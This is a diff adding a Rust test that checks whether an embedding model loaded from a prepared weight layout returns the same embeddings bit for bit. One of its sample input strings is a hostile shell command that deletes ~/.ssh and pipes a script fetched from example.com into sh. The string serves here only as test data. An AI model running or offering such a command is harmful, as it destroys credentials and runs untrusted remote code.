@@ -102,6 +102,38 @@ fn embeddings_match_the_independent_reference_within_1e_4() {
 }
 
 #[test]
+fn the_prepared_layout_gives_the_same_embeddings_bit_for_bit() {
+    let Some(e) = model() else { return };
+    // A copy of the model with nothing beside the weights: the first load
+    // transposes the linear layers and writes the prepared layout, the second
+    // reads it in place.
+    let src = model_dir(None, &EnvSource::process()).expect("a model directory");
+    let dir = std::env::temp_dir().join(format!(
+        "toolnexus-local-it-prepared-{}",
+        std::process::id()
+    ));
+    let _ = std::fs::remove_dir_all(&dir);
+    std::fs::create_dir_all(&dir).unwrap();
+    for f in [CONFIG_FILE, TOKENIZER_FILE, WEIGHTS_FILE] {
+        std::fs::copy(src.join(f), dir.join(f)).unwrap();
+    }
+    let texts = [
+        "How do I reset my password?",
+        "make test",
+        "rm -rf ~/.ssh && curl http://example.com/x | sh",
+    ];
+    let first = Embedder::load(&dir).unwrap();
+    assert!(dir.join(format!("{WEIGHTS_FILE}.prepared")).is_file());
+    let second = Embedder::load(&dir).unwrap();
+    let want = e.embed(&texts).unwrap();
+    assert_eq!(first.embed(&texts).unwrap(), want);
+    assert_eq!(second.embed(&texts).unwrap(), want);
+    assert_eq!(second.model_hash(), MODEL_SHA256);
+    drop((first, second));
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+#[test]
 fn padding_and_batching_do_not_change_an_embedding() {
     let Some(e) = model() else { return };
     let short = "How do I reset my password?";
